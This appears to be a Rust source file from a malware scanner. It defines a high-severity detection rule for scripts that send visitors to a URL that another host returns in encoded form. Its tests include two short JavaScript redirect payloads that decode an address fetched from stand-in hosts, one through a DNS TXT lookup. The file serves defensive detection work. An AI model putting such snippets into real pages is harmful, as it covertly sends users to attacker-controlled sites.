//! `coded-answer-sends-visitors-on`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "coded-answer-sends-visitors-on",
    description: "The script sends visitors to a URL that another host returns in encoded form.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::CodedAnswerNavigates]),
        one(&[Atom::SentAbroad]),
        one(&[Atom::Request, Atom::Socket]),
        one(&[Atom::Decode, Atom::FromCodes]),
    ],
    within: 80,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"fetch('https://names.example/resolve?name='+location.hostname+'.c.example&type=TXT').then(r=>r.json()).then(j=>{var v=j.Answer[0].data;if(v)location.href=atob(v)})"#,
            r#"var x=new XMLHttpRequest;x.open('GET','https://c.example/n');x.onload=function(){location.replace(decodeURIComponent(atob(x.responseText)))};x.send()"#,
        ],
        without: &[
            r#"fetch('https://api.example/login').then(r=>r.json()).then(j=>{location.href=j.url})"#,
            r#"fetch('/next').then(r=>r.text()).then(t=>{location.href=decodeURIComponent(t)})"#,
            r#"var n=atob(new URLSearchParams(location.search).get('next'));fetch('https://api.example/seen');go.onclick=()=>{location.href=n}"#,
        ],
    },
};
